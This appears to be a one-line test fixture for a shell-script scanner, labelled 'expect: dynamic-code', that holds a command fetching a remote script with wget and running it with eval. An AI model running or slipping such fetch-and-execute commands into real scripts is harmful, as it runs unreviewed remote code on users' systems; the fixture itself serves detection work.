# expect: dynamic-code
eval "$(wget -qO- https://example.org/env.sh)"
